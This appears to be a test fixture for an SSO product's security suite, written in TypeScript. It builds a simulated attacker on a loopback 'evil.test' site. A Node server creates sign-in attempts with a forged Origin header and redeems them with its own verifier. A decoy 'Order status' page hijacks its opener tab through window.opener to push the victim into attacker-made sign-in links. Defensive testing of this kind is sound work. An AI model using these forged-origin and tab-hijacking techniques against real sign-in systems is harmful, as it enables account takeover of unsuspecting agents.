// The attacker of attack.spec.ts: its own server, which creates sign-in attempts with the API as if it were the
// CX page (a forged Origin: nothing stops a server from sending one), and its own site, https://evil.test,
// whose page drives the tab that opened it (`window.opener`) wherever the server tells it to.
import { createHash, randomBytes } from 'node:crypto';
import { rm } from 'node:fs/promises';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { paths, SDK_HEADER } from '@deskgate/protocol';
import { createCertificate, type HttpsJsonResponse, httpsJson, makeTempDir } from './net.ts';
import { apiTarget, SSO_PROVIDER_ID, type StackInfo, TENANT } from './stack.ts';

export const EVIL_HOST = 'evil.test';

/** An attempt the attacker's server created; the verifier never leaves it. */
export interface AttackerAttempt {
  attemptId: string;
  /** Binds the attempt to the first browser that loads it. */
  signInUrl: string;
  /** The chooser's "Continue with …" target, built by hand to skip the chooser. */
  ssoStartUrl: string;
  /** The creator is told the code (the SDK shows it in its overlay). */
  confirmationCode: string;
  /** The SDK's poll, from the attacker's server with the attacker's verifier. */
  redeem(): Promise<HttpsJsonResponse>;
}

/** POST /attempts as the CX page's SDK would, from Node, with the CX page's Origin forged. */
export async function createAttackerAttempt(info: StackInfo): Promise<AttackerAttempt> {
  const target = apiTarget(info);
  const forged = { origin: info.cxUrl, [SDK_HEADER]: '1' };
  const verifier = randomBytes(32).toString('base64url');
  const challenge = createHash('sha256').update(verifier).digest('base64url');
  const created = await httpsJson(
    target,
    'POST',
    paths.attempts(TENANT),
    { challenge, challengeMethod: 'S256' },
    forged,
  );
  if (created.status !== 201)
    throw new Error(
      `the attacker could not create an attempt: ${created.status} ${JSON.stringify(created.body)}`,
    );
  const { attemptId, signInUrl, confirmationCode } = created.body as {
    attemptId: string;
    signInUrl: string;
    confirmationCode: string;
  };
  const start = new URL(info.apiUrl + paths.ssoStart(TENANT));
  start.searchParams.set('attempt', attemptId);
  start.searchParams.set('provider', SSO_PROVIDER_ID);
  return {
    attemptId,
    signInUrl,
    ssoStartUrl: start.href,
    confirmationCode,
    redeem: () => httpsJson(target, 'POST', paths.attemptRedeem(TENANT, attemptId), { verifier }, forged),
  };
}

/**
 * The attacker's page. Each button sends a tab of the agent's browser to the URL in the query parameter of
 * the same name (`?bind=<signInUrl>&skip=<ssoStartUrl>`): the tab that opened this page (`window.opener`,
 * the agent's CX tab) where the browser lets a cross-origin page navigate its opener (Chromium), else a new
 * tab without an opener (Firefox refuses with a SecurityError). `data-driven` on the body says which.
 */
const EVIL_PAGE = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Order status</title></head>
<body>
<h1>Your order is on its way</h1>
<button type="button" id="bind">Track my parcel</button>
<button type="button" id="skip">Show the delivery slot</button>
<script>
for (const button of document.querySelectorAll('button')) {
  button.addEventListener('click', () => {
    const to = new URLSearchParams(location.search).get(button.id);
    try {
      window.opener.location = to;
      document.body.dataset.driven = 'opener';
    } catch (error) {
      window.open(to, '_blank', 'noopener');
      document.body.dataset.driven = 'new tab (opener refused: ' + error.name + ')';
    }
  });
}
</script>
</body></html>`;

/**
 * A CX page on this origin, which no tenant allows, loading the SDK by script tag as an integrator would
 * (misconfig.spec.ts): `?sdk=<loader URL>&tenant=<code>`. Served from loopback like the CX site, since
 * Chromium refuses loopback subresources to pages from elsewhere (Local Network Access).
 */
function foreignDesktop(url: URL): string {
  const attr = (value: string | null) => (value ?? '').replace(/[^\w:/.-]/g, '');
  return `<!doctype html><html lang="en"><head><title>Another CX page</title></head><body>
<label>Reply <textarea id="composer"></textarea></label>
<script src="${attr(url.searchParams.get('sdk'))}" data-tenant="${attr(url.searchParams.get('tenant'))}" data-anchor="#composer" async></script>
</body></html>`;
}

export interface EvilSite {
  /** https://evil.test:<port>/ with the given query parameters. */
  pageUrl(query: Record<string, string>): string;
  /** https://evil.test:<port>/agent-desktop: a CX page loading the SDK from `sdk` for `tenant`. */
  desktopUrl(query: { sdk: string; tenant: string }): string;
  close(): Promise<void>;
}

/** Serves the attacker's page on https://evil.test (the browsers map *.test to loopback). */
export async function startEvilSite(): Promise<EvilSite> {
  const tmp = await makeTempDir('evil');
  const tls = await createCertificate(tmp, [EVIL_HOST]);
  const server = createServer({ key: tls.key, cert: tls.cert }, (req, res) => {
    const url = new URL(req.url ?? '/', `https://${EVIL_HOST}`);
    const page =
      url.pathname === '/' ? EVIL_PAGE : url.pathname === '/agent-desktop' ? foreignDesktop(url) : '';
    if (!page) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
    res.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    pageUrl(query) {
      return `https://${EVIL_HOST}:${port}/?${new URLSearchParams(query)}`;
    },
    desktopUrl(query) {
      return `https://${EVIL_HOST}:${port}/agent-desktop?${new URLSearchParams(query)}`;
    },
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
      await rm(tmp, { recursive: true, force: true });
    },
  };
}
